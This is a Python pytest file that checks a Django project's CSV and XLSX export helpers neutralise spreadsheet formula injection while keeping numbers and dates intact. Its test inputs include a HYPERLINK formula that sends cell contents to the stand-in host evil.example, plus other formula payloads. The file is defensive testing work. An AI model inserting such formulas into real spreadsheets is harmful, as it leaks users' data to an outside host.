"""Spreadsheet cells hold what people typed as text, never as a formula; numbers and dates stay what they are."""

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from ccrs.spreadsheets import CsvWriter, csv_text, csv_value, xlsx_row, xlsx_value

DANGEROUS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "=1+2", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
# A carriage return comes back from XLSX as a line feed (XML's rule), so the XLSX texts have none.
TEXTS = [*(t for t in DANGEROUS if "\r" not in t), "#N/A", "=", "Túi hai màu", ""]


def saved(book) -> list[list]:
    out = io.BytesIO()
    book.save(out)
    return [list(row) for row in load_workbook(io.BytesIO(out.getvalue())).active.iter_rows()]


@pytest.mark.parametrize("write_only", [True, False])
def test_text_is_stored_as_text_cells_in_both_kinds_of_workbook(write_only):
    """Read back, every text is a text cell holding exactly what was written, `=...` and `#N/A` included."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("data") if write_only else book.active
    sheet.append(xlsx_row(sheet, ["Header =1", "=2"], font=Font(bold=True)))
    sheet.append(xlsx_row(sheet, TEXTS))
    header, row = saved(book)
    assert [(c.value, c.data_type, c.font.b) for c in header[:2]] == [("Header =1", "s", True), ("=2", "s", True)]
    assert [c.value or "" for c in row] == TEXTS
    assert {c.data_type for c in row if c.value is not None} == {"s"}


def test_numbers_and_dates_stay_numbers_and_dates_in_xlsx():
    """-5 is a number cell, a date a date; an aware time is written in local time without its zone."""
    book = Workbook(write_only=True)
    sheet = book.create_sheet("data")
    moment = datetime(2026, 3, 1, 8, 30, tzinfo=UTC)
    sheet.append(xlsx_row(sheet, [-5, Decimal("-2.5"), 0.25, True, date(2026, 3, 1), moment, None, "=x"]))
    (row,) = saved(book)
    assert [c.value for c in row[:4]] == [-5, -2.5, 0.25, True]
    assert [c.data_type for c in row[:4]] == ["n", "n", "n", "b"]
    assert row[4].is_date and row[4].value.date() == date(2026, 3, 1)
    assert row[5].value == timezone.localtime(moment).replace(tzinfo=None)
    assert row[6].value is None and row[7].value == "=x"


@pytest.mark.parametrize("write_only", [True, False])
def test_xlsx_numbers_carry_a_thousands_separated_format(write_only):
    """2300000000.00 VND opens as 2,300,000,000 (shown with the reader's own marks); a fraction keeps two decimals;
    a raw data dump (numbers=False) keeps General."""
    book = Workbook(write_only=write_only)
    sheet = book.create_sheet("data") if write_only else book.active
    sheet.append(xlsx_row(sheet, [Decimal("2300000000.00"), 1240000, Decimal("12.5"), 0.25, True, "x"]))
    sheet.append(xlsx_row(sheet, [Decimal("2300000000.00"), 1240000], numbers=False))
    formatted, raw = saved(book)
    assert [c.number_format for c in formatted[:4]] == ["#,##0", "#,##0", "#,##0.00", "#,##0.00"]
    assert formatted[0].value == 2300000000 and formatted[4].number_format == "General"
    assert [c.number_format for c in raw[:2]] == ["General", "General"]


def test_other_values_become_text():
    """Lists are joined, lazy translations and other objects become their text."""
    from django.utils.translation import gettext_lazy

    assert xlsx_value(["a", "=b"]) == "a, =b"
    assert xlsx_value(gettext_lazy("Status")) == "Status"
    assert xlsx_value({"k": 1}) == "{'k': 1}"


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_text_that_could_start_a_formula_is_behind_an_apostrophe(text):
    """`=`, `+`, `-`, `@`, tab and carriage return at the start get a `'`, which reading takes off again."""
    assert csv_value(text) == "'" + text
    assert csv_text(csv_value(text)) == text


@pytest.mark.parametrize("value", [-5, Decimal("-2.5"), 3.5, 0, True])
def test_csv_numbers_are_left_alone(value):
    """A negative number is a number, not text beginning with `-`."""
    assert csv_value(value) is value


@pytest.mark.parametrize(
    ("value", "field"),
    [(None, ""), ("Cần Thơ", "Cần Thơ"), ("a=b", "a=b"), ("'quoted", "'quoted"), (date(2026, 3, 1), "2026-03-01")],
)
def test_csv_other_values(value, field):
    """None is an empty field; other text, a `'` that is no escape included, and dates are written as they are."""
    assert csv_value(value) == field
    assert csv_text(field) == field


def test_csv_writer_escapes_every_field_of_every_row():
    """`writerow` and `writerows` both escape text and leave numbers alone."""
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow(["=1+2", -3, None])
    writer.writerows([["@SUM(A1)", "Đà Nẵng"], ["-2+3"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+2", "-3", ""], ["'@SUM(A1)", "Đà Nẵng"], ["'-2+3"]]
